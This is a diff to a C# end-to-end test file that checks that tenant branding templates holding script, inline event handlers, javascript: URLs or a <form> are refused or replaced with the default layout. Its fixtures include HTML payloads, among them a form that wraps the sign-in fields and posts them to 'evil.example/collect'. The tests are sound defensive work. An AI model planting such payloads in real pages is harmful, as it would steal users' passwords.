@@ -94,6 +94,7 @@ public sealed class BrandingEndToEndTests
     [TestCase("<p>Hi</p>\n<div onmouseover=\"steal()\">{{ content }}</div>", "must not contain an inline event handler (onmouseover=): the hosted pages run no script of a template", 2, 6)]
     [TestCase("<p>Hi</p>\n  <script src=\"https://cdn.example/x.js\"></script>{{ content }}", "must not contain a <script> element: the hosted pages run no script of a template", 2, 3)]
     [TestCase("<a href=\"JavaScript:alert(1)\">x</a>{{ content }}", "must not contain a javascript: URL: the hosted pages run no script of a template", 1, 10)]
+    [TestCase("<p>Hi</p>\n<form action=\"https://evil.example/collect\" method=\"post\">{{ content }}</form>", "must not contain a <form> element: only the page's own forms take what users type", 2, 1)]
     [TestCase("<main>\n  {% for x in %}{{ content }}\n</main>", null, 2, null)]
     public async Task Put_ScriptOrBrokenTemplate_Is400WithLineAndColumn_AndNothingIsSaved(string template, string? message, int line, int? column)
     {
@@ -152,6 +153,28 @@ public sealed class BrandingEndToEndTests
             Assert.That(login.Document.GetElementById("password"), Is.Not.Null, "never a blank page");
             Assert.That(log.Split('\n').Where(line => line.Contains("\"Id\":1260", StringComparison.Ordinal)), Has.One.Contains($"\"TenantId\":\"{Tenant}\"")
                 .And.One.Contains("\"Reason\":\"made a <script> element"), "logged once, with the tenant and the reason");
+        });
+    }
+
+    [Test]
+    public async Task StoredTemplateWrappingTheSignInFormInItsOwn_PageUsesTheDefaultLayout_AndThePasswordStaysInTheServersForm()
+    {
+        // As a template saved before forms were refused: the browser ignores the page's nested <form> tag, so the email
+        // and password fields belonged to the template's form, which posted them to another site.
+        await StoreTemplateDirectlyAsync("<form action=\"https://evil.example/collect\" method=\"post\">{{ content }}</form>");
+
+        using var browser = new FormBrowser();
+        var login = await browser.GetAsync(app.BaseUrl + "/login");
+
+        var password = (AngleSharp.Html.Dom.IHtmlInputElement)login.Document.GetElementById("password")!;
+        var log = await ReadSharedAsync(LogFile);
+        Assert.Multiple(() =>
+        {
+            Assert.That(password.Form!.GetAttribute("action"), Is.Null, "the sign-in page's own form, which posts to the page");
+            Assert.That(login.Html, Does.Not.Contain("evil.example"));
+            Assert.That(login.Text("tenant-name"), Is.EqualTo("Acme"), "the default layout");
+            Assert.That(log.Split('\n').Where(line => line.Contains("\"Id\":1260", StringComparison.Ordinal) && line.Contains("\"Reason\":\"made a <form> element", StringComparison.Ordinal)),
+                Has.One.Contains($"\"TenantId\":\"{Tenant}\""), "logged once, with the tenant and the reason");
         });
     }
 
